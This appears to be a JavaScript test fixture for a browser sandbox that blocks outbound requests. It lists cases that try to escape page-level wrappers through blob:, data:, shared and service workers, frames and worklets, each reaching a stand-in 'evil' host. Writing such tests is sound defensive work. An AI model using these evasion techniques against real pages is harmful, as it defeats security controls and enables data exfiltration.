// A worker is a realm that the page's wrappers do not reach.
export default {
  "a blob: worker": ({ blob, sends }) => void new Worker(blob(sends, "text/javascript")),
  "a blob: worker's request": ({ blob, evil }) =>
    void new Worker(
      blob(`const x = new XMLHttpRequest(); x.open("GET", "${evil}", false); x.send()`, "text/javascript"),
    ),
  "a blob: worker's socket": ({ blob, socket }) =>
    void new Worker(blob(`new WebSocket("${socket}")`, "text/javascript")),
  "a blob: worker's event source": ({ blob, evil }) =>
    void new Worker(blob(`new EventSource("${evil}")`, "text/javascript")),
  "a blob: worker's script": ({ blob, evil }) =>
    void new Worker(blob(`importScripts("${evil}/x.js")`, "text/javascript")),
  "a blob: worker's module": ({ blob, evil }) =>
    void new Worker(blob(`import "${evil}/x.js"`, "text/javascript"), { type: "module" }),
  "a blob: worker's import": ({ blob, evil }) => void new Worker(blob(`import("${evil}/x.js")`, "text/javascript")),
  "a blob: worker's worker": ({ blob, sends }) =>
    void new Worker(blob(`new Worker(URL.createObjectURL(new Blob([${JSON.stringify(sends)}])))`, "text/javascript")),
  "a blob: worker's cache": ({ blob, evil }) =>
    void new Worker(
      blob(`caches.open("x").then((c) => c.add(new Request("${evil}", { mode: "no-cors" })))`, "text/javascript"),
    ),
  "a blob: worker's font": ({ blob, evil }) =>
    void new Worker(blob(`new FontFace("f", "url(${evil}/f)").load()`, "text/javascript")),
  "a shared blob: worker": ({ blob, sends }) => void new SharedWorker(blob(sends, "text/javascript")),
  "a data: worker": ({ sends }) => void new Worker(`data:text/javascript,${encodeURIComponent(sends)}`),
  "a worker whose URL changes": ({ own, blob, sends }) => {
    let reads = 0;
    const bad = blob(sends, "text/javascript");
    void new Worker({ toString: () => (reads++ % 2 ? `${own}/idle.js` : bad) });
  },
  "a worker of a frame": ({ add, blob, sends }) => {
    add("iframe");
    void new window[0].Worker(blob(sends, "text/javascript"));
  },
  "a worker of the site's that obeys": ({ own, sends }) => new Worker(`${own}/evaluates.js`).postMessage(sends),
  "a worker of the site's that is told where": ({ own, evil }) =>
    void new Worker(`${own}/sends.js?to=${encodeURIComponent(evil)}`),
  "a shared worker of the site's": ({ own, evil }) =>
    void new SharedWorker(`${own}/sends.js?to=${encodeURIComponent(evil)}`),
  "a service worker of the site's": () => navigator.serviceWorker.register("sw.js"),
  "a service worker by a frame's container": ({ add }) => {
    add("iframe");
    return window[0].ServiceWorkerContainer.prototype.register.call(navigator.serviceWorker, `${location.href}sw.js`, {
      scope: location.href,
    });
  },
  "an audio worklet's module": ({ evil }) => new AudioContext().audioWorklet.addModule(`${evil}/x.js`),
  "an audio worklet's import": ({ blob, evil }) =>
    new AudioContext().audioWorklet.addModule(blob(`import "${evil}/x.js"`, "text/javascript")),
  "a paint worklet's module": ({ evil }) => CSS.paintWorklet.addModule(`${evil}/x.js`),
  "a paint worklet's import": ({ blob, evil }) =>
    CSS.paintWorklet.addModule(blob(`import "${evil}/x.js"`, "text/javascript")),
};
